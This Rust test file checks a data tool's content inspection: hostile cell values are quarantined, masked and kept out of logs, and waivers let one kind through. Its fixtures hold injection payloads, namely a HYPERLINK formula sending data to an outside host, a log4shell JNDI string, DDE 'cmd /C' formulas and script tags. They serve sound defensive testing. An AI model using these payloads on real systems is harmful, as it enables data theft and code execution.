//! Content inspection: what is a risk in itself is stopped at the entrance, with its reason; a waiver lets one kind through; and nothing
//! that is shown, logged or written holds the value.

use std::process::Stdio;

use polder_app::search::Search;
use serde_json::{Value, json};

use crate::harness::{Project, ran};

/// A word of each hostile value, which must be nowhere.
const SECRET: &str = "Zoutkeetsgracht";

const CONTRACT: &str = r#"apiVersion: v3.1.0
kind: DataContract
id: 6f1c2f0e-58f1-4c0e-9a38-0d4b6d1f7a11
version: 1.0.0
status: active
customProperties:
  - {property: polder.source, value: files}
  - {property: polder.onViolation, value: VIOLATION}
  - {property: polder.rejectLimit, value: 0.9}
schema:
  - name: notes
    physicalName: notes
    properties:
      - {name: id, logicalType: integer, required: true}
      - {name: author, logicalType: string}
      - {name: note, logicalType: stringWAIVER}
"#;

/// A project with a source of notes, and a contract that is approved.
fn project(violation: &str, waiver: &str, notes: &str) -> Project {
    let project = Project::new();
    project.write("data/notes.csv", format!("id,author,note\n{notes}"));
    project.write("sources/files.yaml", "type: csv\npath: data\ndatasets:\n  notes: {file: notes*.csv}\n");
    approve(&project, violation, waiver);
    project
}

fn approve(project: &Project, violation: &str, waiver: &str) {
    project.write("contracts/notes.odcs.yaml", CONTRACT.replace("VIOLATION", violation).replace("WAIVER", waiver));
    project.run(&["contract", "approve", "notes", "--yes"]).ok();
}

fn waiver(kind: &str) -> String {
    format!(
        ", customProperties: [{{property: polder.waive, value: [{{kind: {kind}, reason: shown as plain text only, approver: Ann Example}}]}}]"
    )
}

/// One value of each kind, the fourth and the ninth ordinary.
fn hostile() -> String {
    let rows = [
        format!("=HYPERLINK(\"\"http://{SECRET}.example/\"\"&A1)"),
        format!("{SECRET}\u{7}"),
        format!("{SECRET}\u{202e}txt"),
        "an ordinary note".to_owned(),
        format!("ann@{SECRET}.ex\u{430}mple.org"),
        format!("<script>{SECRET}</script>"),
        format!("${{jndi:ldap://{SECRET}/a}}"),
        format!("@SUM(1)*cmd|' /C {SECRET}'!A0"),
        "another note".to_owned(),
    ];
    rows.iter().enumerate().map(|(at, note)| format!("{at},Ann,\"{note}\"\n")).collect()
}

fn batch(project: &Project, args: &[&str]) -> Value {
    let args: Vec<&str> = args.iter().copied().chain(["--output", "json"]).collect();
    let report: Value = serde_json::from_str(&project.run(&args).ok()).unwrap();
    report["batches"][0].clone()
}

/// (column, rule, rows) of what was refused.
fn refused(batch: &Value) -> Vec<(String, String, u64)> {
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let rows = batch["refused"].as_array().unwrap().iter();
    rows.map(|by| (text(&by["column"]), text(&by["rule"]), by["rows"].as_u64().unwrap())).collect()
}

#[test]
fn a_hostile_value_refuses_the_batch_with_its_column_and_kind() {
    let project = project("fail", "", &hostile());
    let error = project.run(&["run"]).fails(3);
    assert!(error.contains("record 1 of notes.csv breaks rule content:formula of column note"), "{error}");
    assert!(!error.contains(SECRET), "{error}");
    assert!(project.run(&["sql", "select * from notes"]).code != Some(0));
}

#[test]
fn each_kind_is_quarantined_told_and_shown_masked() {
    let project = project("quarantine", "", &hostile());
    let told = batch(&project, &["run"]);
    let wanted = ["bidi", "control", "formula", "homoglyph", "markup", "pattern"].map(|kind| {
        let rows = if kind == "formula" { 2 } else { 1 };
        ("note".to_owned(), format!("content:{kind}"), rows)
    });
    assert_eq!(refused(&told), wanted);
    assert_eq!((&told["counts"]["loaded"], &told["counts"]["quarantined"]), (&json!(2), &json!(7)));
    let by = |rule: &str| told["refused"].as_array().unwrap().iter().find(|by| by["rule"] == rule).unwrap().clone();
    assert_eq!(by("content:formula")["masked"], "=a(\"a://a.a/\"&a9) (48 characters)");
    assert_eq!(by("content:pattern")["patterns"], json!({ "log4shell": 1 }));
    assert_eq!(project.rows("select id from notes order by id"), ["3", "8"]);

    // The log holds counts, and the report for people shapes.
    let events: Value =
        serde_json::from_str(&project.run(&["audit", "show", "--type", "content_inspected", "--output", "json"]).ok()).unwrap();
    let event = &events.as_array().unwrap()[0];
    assert!(event.to_string().contains("\\\"formula\\\":2") || event.to_string().contains("\"formula\":2"), "{event}");

    // Masked in every output, and as it is when it is asked for.
    for output in ["table", "json", "csv"] {
        let shown = project.run(&["quarantine", "show", "notes", "--output", output]).ok();
        assert!(shown.contains("masked") && shown.contains("a://a.a") && !shown.contains(SECRET), "{shown}");
        let plain = project.run(&["quarantine", "show", "notes", "--unmasked", "--output", output]).ok();
        assert!(plain.contains(SECRET), "{plain}");
    }
}

#[test]
fn no_value_of_a_finding_is_in_what_is_printed_logged_or_written() {
    let project = project("quarantine", "", &hostile());
    for args in [
        &["run", "--dry-run", "-vvvv"][..],
        &["run", "-vvvv"],
        &["quarantine", "list", "-vvvv"],
        &["quarantine", "show", "notes", "-vvvv"],
        &["audit", "show", "--limit", "100", "-vvvv"],
        &["audit", "verify", "-vvvv"],
        &["status", "-vvvv"],
    ] {
        let mut command = project.command(args);
        command.env("RUST_LOG", "trace").env("RUST_BACKTRACE", "full").stdin(Stdio::null());
        let ran = ran(command.output().unwrap());
        assert_eq!(ran.code, Some(0), "{args:?}: {}", ran.err);
        assert!(!ran.out.contains(SECRET) && !ran.err.contains(SECRET), "{args:?}: {}\n{}", ran.out, ran.err);
    }
    let search = Search::new(&[SECRET]).unwrap();
    assert_eq!(search.directory(&project.store()).unwrap().findings, []);
    // The control: the source has it, and the same search finds it there.
    assert!(!search.directory(&project.dir().join("data")).unwrap().findings.is_empty());
}

#[test]
fn a_waiver_lets_one_kind_through_and_stays_in_sight() {
    let project = project("quarantine", &waiver("formula"), &hostile());
    // It is part of what is approved, and whoever approves sees it.
    let seen = project.run(&["contract", "approve", "notes", "--yes"]);
    assert!(seen.err.contains("formula let through, since Ann Example says: shown as plain text only"), "{}", seen.err);
    let told = batch(&project, &["run"]);
    assert!(refused(&told).iter().all(|(_, rule, _)| rule != "content:formula"), "{told}");
    assert_eq!(told["waived"], json!([{ "column": "note", "kind": "formula", "rows": 2 }]));
    assert_eq!(told["counts"]["loaded"], 4);
    assert_eq!(project.rows("select id from notes order by id"), ["0", "3", "7", "8"]);
    project.write("data/notes2.csv", "id,author,note\n20,Ann,=1+1\n");
    let lines = project.run(&["run"]).ok();
    assert!(lines.contains("waived by the contract: 1 row with formula in note"), "{lines}");
    // A waiver for one column says nothing of another.
    project.write("data/notes3.csv", "id,author,note\n21,=1+1,x\n22,Ann,=1+1\n");
    assert_eq!(refused(&batch(&project, &["run"])), [("author".to_owned(), "content:formula".to_owned(), 1)]);
    // Without it the contract is another one.
    project.write("contracts/notes.odcs.yaml", CONTRACT.replace("VIOLATION", "quarantine").replace("WAIVER", ""));
    project.write("data/notes4.csv", "id,author,note\n23,Ann,x\n");
    project.run(&["run"]).fails(3);
}

#[test]
fn a_waiver_that_is_not_one_is_an_error_with_a_suggestion() {
    let project = project("quarantine", "", "1,Ann,x\n");
    project.write("contracts/notes.odcs.yaml", CONTRACT.replace("VIOLATION", "quarantine").replace("WAIVER", &waiver("formulas")));
    let error = project.run(&["contract", "check"]).fails(2);
    assert!(error.contains("notes.odcs.yaml, line 16: `formulas` is not a kind of finding; did you mean formula?"), "{error}");
}

#[test]
fn a_replay_takes_up_what_a_waiver_now_lets_through() {
    let project = project("quarantine", "", &hostile());
    project.run(&["run"]).ok();
    approve(&project, "quarantine", &waiver("markup"));
    let replayed = batch(&project, &["quarantine", "replay", "notes"]);
    assert_eq!((&replayed["counts"]["read"], &replayed["counts"]["loaded"]), (&json!(7), &json!(1)), "{replayed}");
    assert_eq!(replayed["waived"], json!([{ "column": "note", "kind": "markup", "rows": 1 }]));
    project.run(&["audit", "verify"]).ok();
}

#[test]
fn dropped_rows_count_against_the_limit() {
    let project = project("drop", "", &hostile());
    assert_eq!(batch(&project, &["run"])["counts"]["rejected"], 7);
    let text = CONTRACT.replace("VIOLATION", "drop").replace("WAIVER", "").replace("value: 0.9}", "value: 0.5}");
    project.write("contracts/notes.odcs.yaml", text);
    project.run(&["contract", "approve", "notes", "--yes"]).ok();
    project.write("data/notes5.csv", format!("id,author,note\n{}", hostile().replace("Ann", "Bea")));
    let error = project.run(&["run"]).fails(3);
    assert!(error.contains("more than its polder.rejectLimit of 0.5"), "{error}");
}

#[test]
fn json_and_parquet_are_inspected_as_csv_is() {
    let project = project("quarantine", "", "1,Ann,x\n");
    project.run(&["run"]).ok();
    project.write("sources/files.yaml", "type: ndjson\npath: data\ndatasets:\n  notes: {file: notes*.ndjson}\n");
    project.write("data/notes.ndjson", "{\"id\":1,\"author\":\"Ann\",\"note\":\"\\u003dcmd|' /C calc'!A0\"}\n{\"id\":2,\"author\":\"\\u202e\",\"note\":\"x\"}\n{\"id\":3,\"author\":\"Ann\",\"note\":\"x\"}\n");
    let wanted = [("author".to_owned(), "content:bidi".to_owned(), 1), ("note".to_owned(), "content:formula".to_owned(), 1)];
    assert_eq!(refused(&batch(&project, &["run"])), wanted);
    parquet(&project.dir().join("data/notes.parquet"));
    project.write("sources/files.yaml", "type: parquet\npath: data\ndatasets:\n  notes: {file: notes*.parquet}\n");
    assert_eq!(refused(&batch(&project, &["run"])), wanted);
}

fn parquet(path: &std::path::Path) {
    use std::sync::Arc;

    use arrow::array::{ArrayRef, Int32Array, RecordBatch, StringArray};
    let id: ArrayRef = Arc::new(Int32Array::from(vec![1, 2, 3]));
    let author: ArrayRef = Arc::new(StringArray::from(vec!["Ann", "\u{202e}", "Ann"]));
    let note: ArrayRef = Arc::new(StringArray::from(vec!["=cmd|' /C calc'!A0", "x", "x"]));
    let batch = RecordBatch::try_from_iter([("id", id), ("author", author), ("note", note)]).unwrap();
    let mut writer = parquet::arrow::ArrowWriter::try_new(std::fs::File::create(path).unwrap(), batch.schema(), None).unwrap();
    writer.write(&batch).unwrap();
    writer.close().unwrap();
}

#[test]
fn rules_of_the_project_are_applied_and_wrong_ones_are_told() {
    let project = project("quarantine", "", "1,Ann,the Frobnicator is here\n2,Ann,x\n");
    project.write(
        "rules/own.yar",
        "rule house_word\n{\n  strings:\n    $word = \"frobnicator\" nocase fullword\n  condition:\n    $word\n}\n",
    );
    project.run(&["contract", "check"]).ok();
    let told = batch(&project, &["run"]);
    assert_eq!(refused(&told), [("note".to_owned(), "content:pattern".to_owned(), 1)]);
    assert_eq!(told["refused"][0]["patterns"], json!({ "house_word": 1 }));
    let lines = project.run(&["quarantine", "show", "notes"]).ok();
    assert!(lines.contains("note=(masked: a a a a (23 characters))"), "{lines}");
    project.write("rules/own.yar", "rule house_word\n{\n  condition:\n    filesize > 10\n}\n");
    project.write("data/notes2.csv", "id,author,note\n3,Ann,y\n");
    for args in [&["contract", "check"][..], &["run"]] {
        let error = project.run(args).fails(2);
        let wanted = "rules/own.yar, line 1: rule house_word may hold for a value in which none of its strings is; add `and any of them`";
        assert!(error.contains(wanted), "{error}");
    }
}

#[test]
fn personal_data_fails_the_batch_unless_the_column_may_hold_it() {
    let mails: String = (0..40).map(|at| format!("{at},agent{at},person{at}@{SECRET}.example\n")).collect();
    for violation in ["fail", "quarantine", "drop"] {
        let project = project(violation, "", &mails);
        let args = ["run", "--output", "json"];
        let failed = project.run(&args);
        assert_eq!(failed.code, Some(3), "{}", failed.err);
        let wanted = "holds personal data (e-mail address, because of its values, in 100% of the values looked at)";
        assert!(failed.err.contains(wanted), "{}", failed.err);
        let report: Value = serde_json::from_str(&failed.out).unwrap();
        let found = json!([{ "column": "note", "kind": "email", "because": "its values", "percent": 100, "waived": false }]);
        assert_eq!(report["batches"][0]["personal"], found);
        assert!(!failed.err.contains(SECRET) && !failed.out.contains(SECRET));
        assert!(project.run(&["sql", "select * from notes"]).code != Some(0), "nothing is visible");
        // Classified, allowed by kind, or waived.
        approve(&project, violation, ", classification: personal");
        assert_eq!(batch(&project, &["run"])["counts"]["loaded"], 40);
        project.write("data/notes2.csv", format!("id,author,note\n{}", mails.replace("person", "other")));
        approve(&project, violation, ", customProperties: [{property: polder.personal, value: [email]}]");
        assert_eq!(batch(&project, &["run"])["counts"]["loaded"], 40);
        project.write("data/notes3.csv", format!("id,author,note\n{}", mails.replace("person", "third")));
        approve(&project, violation, &waiver("personal"));
        let waived = batch(&project, &["run"]);
        assert_eq!((&waived["counts"]["loaded"], &waived["personal"][0]["waived"]), (&json!(40), &json!(true)), "{waived}");
    }
}
